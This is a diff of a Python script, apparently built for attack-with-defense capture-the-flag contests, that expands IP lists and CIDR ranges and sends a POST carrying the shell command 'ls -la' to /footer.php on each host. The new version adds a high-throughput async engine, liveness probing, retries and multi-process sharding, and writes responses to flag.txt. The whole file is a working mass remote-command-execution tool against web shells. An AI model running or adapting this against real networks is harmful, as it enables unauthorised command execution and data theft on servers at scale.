@@ -1,51 +1,85 @@
-import requests
-import ipaddress
 import sys
-from concurrent.futures import ThreadPoolExecutor
+import os
+
+# 添加上级目录到Python路径，以便导入共享的awdlib模块
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from awdlib.targets import iter_targets
+from awdlib.probe import iter_alive
+from awdlib.engine import AsyncHTTPEngine
+from awdlib.timeouts import AdaptiveTimeout
+from awdlib.ratelimit import configure_limiter, HOST_BURST
+from awdlib.retry import RetryPolicy, RetryBudget
+from awdlib.shard import run_sharded, scaled_host_limits
 
 # 配置参数 - 可以根据需要修改
-DEFAULT_PORT = '8805'  # 默认端口，如果IP地址中没有指定端口则使用这个端口
+DEFAULT_PORT = '8805'  # 默认端口，如果IP地址中没有指定端口则使用这个端口，支持 '8802-8805' 或 '8802,8805' 多端口写法
+PROBE_ENABLED = True  # 请求前先做TCP存活预筛，不可连接的目标直接跳过
+PROBE_TIMEOUT = 0.8  # 存活预筛连接超时 (秒)
+TIMEOUT = 3  # 单个请求超时 (秒)，没有耗时记录的目标使用该值
+TIMEOUT_MAX = 10  # 自适应超时上限 (秒)，按每个目标最近耗时的p95计算，记录保存在 timeout_cache.json
+MAX_CONCURRENCY = 500  # 异步引擎同时在途的请求数
+PER_HOST_LIMIT = 16  # 同一主机同时在途的请求数
+RATE_LIMIT = 2000  # 所有请求合计的速率上限 (次/秒)
+HOST_RATE_LIMIT = 50  # 每个主机的速率上限 (次/秒)，各主机轮转放行，慢队伍不会占满并发
+MAX_ATTEMPTS = 3  # 建立连接失败、429/503 时每个目标最多尝试的次数；POST已发出后不重试，避免重复执行命令
+RETRY_BUDGET = 100  # 本次运行所有目标合计最多重试的次数，网络抖动时不会把整轮时间拖长
+OUTPUT_FILE = 'flag.txt'  # 结果文件，每完成一个目标追加一条
+MAX_BODY_BYTES = 256 * 1024  # 响应体最多读取的字节数，超出部分丢弃
+STOP_PATTERN = r'flag\{[^}\s]+\}'  # 响应中匹配到flag后立即停止读取，设为 None 则读取完整响应
+PROCESSES = 1  # 分片进程数，大于1时按 (ip, 端口) 把目标分到多个进程，各自请求和处理后汇总，0 表示使用全部CPU核心
 POST_ENDPOINT = '/footer.php'  # POST请求的端点
 # POST表单数据
 POST_DATA = {
     'shell': 'ls -la'  # 可以根据需要修改命令
 }
 
-def process_target(target):
-    """处理单个目标地址，支持IP、带端口IP和CIDR格式"""
-    results = []
+def format_post_info(target, response):
+    """格式化指定目标POST请求的响应"""
+    if response.ok:
+        note = " (已截断)" if response.truncated else ""
+        return f"目标: {target}\nPOST数据: {POST_DATA}\n响应内容{note}:\n{response.text}\n{'-'*50}\n"
+    return f"目标: {target}\nPOST数据: {POST_DATA}\n错误: {response.error or f'HTTP {response.status}'}\n{'-'*50}\n"
+
+def summarize(target, response):
+    """把响应处理成可以跨进程传递的结果: (目标, 格式化文本, 是否成功, 失败原因, 耗时, 引擎错误)"""
+    return (target, format_post_info(target, response), response.ok,
+            response.error or f'HTTP {response.status}', response.elapsed, response.error)
+
+def fetch(targets, handle, timeouts, share=1):
+    """
+    用异步引擎请求一批目标，按完成顺序对每个结果调用 handle(summarize(...))
     
-    # 提取基础IP和端口号
-    if ':' in target:
-        base_ip, port = target.split(':', 1)
-    else:
-        base_ip = target
-        port = DEFAULT_PORT  # 使用配置的默认端口
+    参数:
+        targets: 可迭代的 (ip, port)
+        handle: 结果回调
+        timeouts: AdaptiveTimeout 自适应超时
+        share: 本进程分到的总速率、每主机速率和并发、重试预算的比例，分片模式下为 1/进程数
+    """
+    if PROBE_ENABLED:
+        targets = iter_alive(targets, timeout=PROBE_TIMEOUT)
     
-    try:
-        # 检查是否为CIDR格式
-        if '/' in base_ip:
-            network = ipaddress.ip_network(base_ip, strict=False)
-            for ip in network.hosts():
-                results.append(f"{str(ip)}:{port}")
-        else:
-            # 单个IP
-            results.append(target if ':' in target else f"{target}:{DEFAULT_PORT}")
-    except ValueError:
-        print(f"无效的目标地址: {target}")
+    def build(target):
+        ip, port = target
+        return dict(method='POST', host=ip, port=port, path=POST_ENDPOINT, data=POST_DATA,
+                    max_bytes=MAX_BODY_BYTES, stop_pattern=STOP_PATTERN, timeout=timeouts.get(f"{ip}:{port}"))
     
-    return results
-
-def fetch_post_info(target):
-    """使用POST请求获取指定目标的信息"""
-    url = f"http://{target}{POST_ENDPOINT}"
+    def on_result(target, response):
+        handle(summarize(f"{target[0]}:{target[1]}", response))
+    
+    # 同一IP的各端口可能分到不同进程，每主机的速率和并发也按比例缩小，所有进程合计对单个IP的压力不变
+    host_rate, host_burst, per_host_limit = scaled_host_limits(HOST_RATE_LIMIT, HOST_BURST, PER_HOST_LIMIT, share)
+    configure_limiter(RATE_LIMIT * share, host_rate=host_rate, host_burst=host_burst)
+    engine = AsyncHTTPEngine(MAX_CONCURRENCY, per_host_limit, timeout=TIMEOUT)
+    retry = RetryPolicy(MAX_ATTEMPTS, budget=RetryBudget(int(RETRY_BUDGET * share)), idempotent=False)
     try:
-        # 发送POST请求
-        response = requests.post(url, data=POST_DATA, timeout=3)
-        response.raise_for_status()
-        return f"目标: {target}\nPOST数据: {POST_DATA}\n响应内容:\n{response.text}\n{'-'*50}\n"
-    except Exception as e:
-        return f"目标: {target}\nPOST数据: {POST_DATA}\n错误: {str(e)}\n{'-'*50}\n"
+        engine.fetch_all(targets, build, on_result, retry=retry)
+    finally:
+        engine.close()
+
+def fetch_shard(shard, ctx):
+    """分片模式的子进程: 请求分到的目标，把处理好的结果送回主进程 (耗时记录由主进程统一保存)"""
+    timeouts = AdaptiveTimeout(default=TIMEOUT, max_timeout=TIMEOUT_MAX)
+    fetch(shard, ctx.put, timeouts, share=1 / ctx.count)
 
 def main():
     # 程序说明
@@ -53,56 +87,59 @@ def main():
     print(f"当前配置的默认端口: {DEFAULT_PORT}")
     print(f"POST请求端点: {POST_ENDPOINT}")
     print(f"发送的POST数据: {POST_DATA}")
-    print("支持格式: 单个IP、带端口IP、CIDR格式网段")
-    print("示例: 192.168.1.1  或  192.168.1.1:8080  或  192.168.1.0/30")
+    print("支持格式: 单个IP、带端口IP、CIDR格式网段、端口范围/多端口")
+    print("示例: 192.168.1.1  或  192.168.1.1:8080  或  192.168.1.0/30  或  192.168.1.1:8802-8805")
     print("====================\n")
     
-    # 读取ip.txt文件
-    try:
-        with open('ip.txt', 'r', encoding='utf-8') as f:
-            targets = [line.strip() for line in f if line.strip()]
-    except FileNotFoundError:
+    # 检查ip.txt文件
+    if not os.path.exists('ip.txt'):
         print("错误: ip.txt文件不存在，请创建此文件并添加IP地址")
         sys.exit(1)
     
-    if not targets:
-        print("警告: ip.txt文件为空")
-        sys.exit(1)
-    
-    # 处理所有目标
-    all_targets = []
-    for target in targets:
-        processed = process_target(target)
-        all_targets.extend(processed)
-        if processed:
-            print(f"处理目标: {target} -> 生成 {len(processed)} 个扫描项")
-    
-    print(f"\n总共处理了 {len(targets)} 个目标，生成了 {len(all_targets)} 个扫描项")
     print("开始发送POST请求...")
     
     # 并行获取信息
-    results = []
+    output = None
     success_count = 0
     error_count = 0
     
-    with ThreadPoolExecutor(max_workers=10) as executor:
-        future_to_target = {executor.submit(fetch_post_info, t): t for t in all_targets}
-        for future in future_to_target:
-            target = future_to_target[future]
-            try:
-                result = future.result()
-                results.append(result)
-                success_count += 1
-                print(f"✓ 成功: {target}")
-            except Exception as e:
-                error_count += 1
-                print(f"✗ 失败: {target} - {str(e)}")
+    timeouts = AdaptiveTimeout(default=TIMEOUT, max_timeout=TIMEOUT_MAX)
+    
+    def record(result):
+        nonlocal output, success_count, error_count
+        target, text, ok, reason, elapsed, error = result
+        timeouts.observe(target, elapsed, error)
+        # 按完成顺序逐条追加写入并立即刷新，慢目标还在请求时先完成的结果就可以拿去提交
+        if output is None:
+            output = open(OUTPUT_FILE, 'w', encoding='utf-8')
+        output.write(text)
+        output.flush()
+        if ok:
+            success_count += 1
+            print(f"✓ 成功: {target}")
+        else:
+            error_count += 1
+            print(f"✗ 失败: {target} - {reason}")
+    
+    # 目标惰性展开，边解析边发送，不必等整个网段展开完才发出第一个请求
+    targets = iter_targets('ip.txt', DEFAULT_PORT)
+    try:
+        if PROCESSES != 1:
+            # 分片模式: 目标按 (ip, 端口) 分到多个进程，结果在主进程中合并
+            run_sharded(targets, fetch_shard, record, PROCESSES)
+        else:
+            fetch(targets, record, timeouts)
+    finally:
+        if output is not None:
+            output.close()
+    timeouts.save()
+    
+    if not success_count + error_count:
+        print("警告: ip.txt中没有有效的目标")
+        sys.exit(1)
     
-    # 写入结果
-    if results:
-        with open('flag.txt', 'w', encoding='utf-8') as f:
-            f.writelines(results)
-        print(f"\n结果已写入 flag.txt 文件")
+    if output is not None:
+        print(f"\n结果已写入 {OUTPUT_FILE} 文件")
         print(f"统计: 成功 {success_count} 个，失败 {error_count} 个")
     else:
         print("\n警告: 没有获取到任何有效结果")